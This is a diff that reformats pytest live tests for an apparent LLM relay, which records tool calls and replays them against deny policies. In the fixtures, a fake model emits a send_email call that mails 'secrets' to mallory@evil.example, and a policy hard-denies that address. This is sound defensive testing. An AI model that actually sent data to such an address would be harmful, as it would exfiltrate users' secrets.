@@ -15,10 +15,24 @@ from tests.factories import UserFactory, make_key
 
 pytestmark = pytest.mark.live
 
-TOOLS = [{"type": "function", "function": {"name": "send_email", "parameters": {
-    "type": "object", "properties": {"to": {"type": "string"}, "body": {"type": "string"}}}}}]
-DENY_MALLORY = {"codes": {"code": 'tool "send_email" { hard deny when to.value == "mallory@evil.example"; }',
-                          "language": "sqrt"}}
+TOOLS = [
+    {
+        "type": "function",
+        "function": {
+            "name": "send_email",
+            "parameters": {
+                "type": "object",
+                "properties": {"to": {"type": "string"}, "body": {"type": "string"}},
+            },
+        },
+    }
+]
+DENY_MALLORY = {
+    "codes": {
+        "code": 'tool "send_email" { hard deny when to.value == "mallory@evil.example"; }',
+        "language": "sqrt",
+    }
+}
 
 
 def recorded_call(session_id: str, timeout: float = 20.0) -> SessionEvent:
@@ -32,8 +46,12 @@ def recorded_call(session_id: str, timeout: float = 20.0) -> SessionEvent:
 
 
 def ask(relay, secret, body):
-    r = httpx.post(f"{relay}/control/chat/v1/chat/completions", json=body, timeout=30,
-                   headers={"Authorization": f"Bearer {secret}", "X-Api-Key": "k"})
+    r = httpx.post(
+        f"{relay}/control/chat/v1/chat/completions",
+        json=body,
+        timeout=30,
+        headers={"Authorization": f"Bearer {secret}", "X-Api-Key": "k"},
+    )
     assert r.status_code == 200, r.text
     return r.headers["x-session-id"]
 
@@ -41,8 +59,11 @@ def ask(relay, secret, body):
 def test_single_llm_calls_are_recorded_replayable(relay, fake_upstream):
     key, secret = make_key(UserFactory(), arch="single-llm")
     fake_upstream.push(fu.tool_calls(("send_email", {"to": "mallory@evil.example", "body": "secrets"})))
-    sid = ask(relay, secret, {"model": "gpt-5-mini", "tools": TOOLS,
-                              "messages": [{"role": "user", "content": "mail mallory"}]})
+    sid = ask(
+        relay,
+        secret,
+        {"model": "gpt-5-mini", "tools": TOOLS, "messages": [{"role": "user", "content": "mail mallory"}]},
+    )
     data = recorded_call(sid).data
     key = ApiKey.objects.get(pk=key.pk)
     assert data["policy_version"] == key.current_version_id
@@ -56,10 +77,17 @@ def test_single_llm_calls_are_recorded_replayable(relay, fake_upstream):
 
 def test_dual_llm_calls_are_recorded_replayable(relay, fake_upstream):
     key, secret = make_key(UserFactory(), arch="dual-llm")
-    fake_upstream.push(fu.text('```python\nsend_email(to="mallory@evil.example", body="secrets")\n'
-                               'final_return_value = "sent"\n```'))
-    sid = ask(relay, secret, {"model": "gpt-5-mini", "tools": TOOLS,
-                              "messages": [{"role": "user", "content": "mail mallory"}]})
+    fake_upstream.push(
+        fu.text(
+            '```python\nsend_email(to="mallory@evil.example", body="secrets")\n'
+            'final_return_value = "sent"\n```'
+        )
+    )
+    sid = ask(
+        relay,
+        secret,
+        {"model": "gpt-5-mini", "tools": TOOLS, "messages": [{"role": "user", "content": "mail mallory"}]},
+    )
     data = recorded_call(sid).data
     key = ApiKey.objects.get(pk=key.pk)
     assert data["policy_version"] == key.current_version_id
@@ -68,4 +96,5 @@ def test_dual_llm_calls_are_recorded_replayable(relay, fake_upstream):
 
     result = do_dry_run(key=key, policy=DENY_MALLORY)
     assert [(c.call.session_id, c.call.dual_llm, c.verdict) for c in result.newly_denied] == [
-        (sid, True, "hard_denied")]
+        (sid, True, "hard_denied")
+    ]
